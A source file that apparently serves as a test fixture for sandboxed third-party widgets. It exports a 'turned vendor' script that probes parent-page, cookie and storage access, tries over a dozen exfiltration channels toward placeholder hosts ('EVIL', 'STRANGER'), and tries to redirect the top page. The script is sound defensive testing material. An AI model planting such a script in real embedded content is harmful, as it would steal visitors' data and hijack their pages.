/**
 * The script of a vendor that has turned. It tells the vendor's own host what it got (`/found`), asks it whether a call has
 * arrived (`/called`), then tries to lead the visitor away, and says when it has tried everything (`/end`). EVIL is the
 * origin of a stranger, STRANGER for a host and port at which he waits for calls.
 */
export const HOSTILE = `(async () => {
  const found = new Set();
  /** Notes that something was got, where trying gives anything at all. */
  const attempt = async (what, act) => {
    try {
      if (await act()) found.add(what);
    } catch {}
  };
  const quietly = (act) => attempt('', act);

  await attempt('page', () => parent.document.body);
  await attempt('page', () => top.document.title);
  await attempt('page', () => parent.location.href);
  await attempt('page', () => frameElement);

  await attempt('cookies', () => document.cookie);
  await attempt('cookies', async () => (document.cookie = 'mine=1') && document.cookie.includes('mine'));

  await attempt('storage', () => localStorage);
  await attempt('storage', () => sessionStorage);
  await attempt('storage', () => indexedDB.open('mine'));
  await attempt('storage', () => caches.keys());
  await attempt('storage', () => navigator.storage.getDirectory());

  const add = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    document.body.append(element);
    return element;
  };
  for (const origin of ['EVIL', new URL(document.baseURI).origin]) {
    const url = (by) => origin + '/about?by=' + by;
    const ask = new XMLHttpRequest();
    await Promise.all([
      attempt('answer', async () => (await fetch(url('fetch'))).ok),
      quietly(() => fetch(url('fetch-blind'), { mode: 'no-cors' })),
    ]);
    await attempt('answer', () => new Promise((resolve, reject) => {
      ask.onload = () => resolve(ask.responseText);
      ask.onerror = reject;
      ask.open('GET', url('xhr'));
      ask.send();
    }));
    await quietly(() => navigator.sendBeacon(url('beacon'), 'loot'));
    await quietly(() => new WebSocket(url('socket').replace('http', 'ws')));
    await quietly(() => new EventSource(url('events')));
    await quietly(() => new Worker(url('worker')));
    await quietly(() => import(url('module')));
    await quietly(() => { new Image().src = url('image'); });
    await quietly(() => add('script', { src: url('script') }));
    await quietly(() => add('link', { rel: 'stylesheet', href: url('style') }));
    await quietly(() => add('link', { rel: 'prefetch', href: url('prefetch') }));
    await quietly(() => add('iframe', { src: url('frame') }));
    await quietly(() => add('object', { data: url('object') }));
    await quietly(() => add('video', { src: url('video') }));
    await quietly(() => add('form', { action: url('form'), method: 'post', target: add('iframe', { name: 'sink' }).name }).submit());
  }

  await quietly(async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STRANGER' }] });
    call.createDataChannel('loot');
    await call.setLocalDescription(await call.createOffer());
    const hasArrived = async () => (await (await fetch('https://widgets.example/called')).text()) === 'yes';
    for (let turn = 0; turn < 100 && !(await hasArrived()); turn += 1);
  });

  await quietly(() => {
    if (open('about:blank')) found.add('windows');
  });

  await fetch('https://widgets.example/found', { method: 'POST', body: JSON.stringify([...found]) });

  await quietly(() => { top.location = 'EVIL/taken'; });
  await quietly(() => { top.location.href = 'EVIL/taken'; });
  await quietly(() => { parent.location.replace('EVIL/taken'); });
  await quietly(() => open('EVIL/taken', '_top'));
  await quietly(() => add('a', { href: 'EVIL/taken', target: '_top' }).click());
  await quietly(() => add('form', { action: 'https://widgets.example/taken', target: '_top' }).submit());
  // A page that is being left has the time to go.
  for (let turn = 0; turn < 5; turn += 1) await fetch('https://widgets.example/turn');
  await fetch('https://widgets.example/end');
})();`;
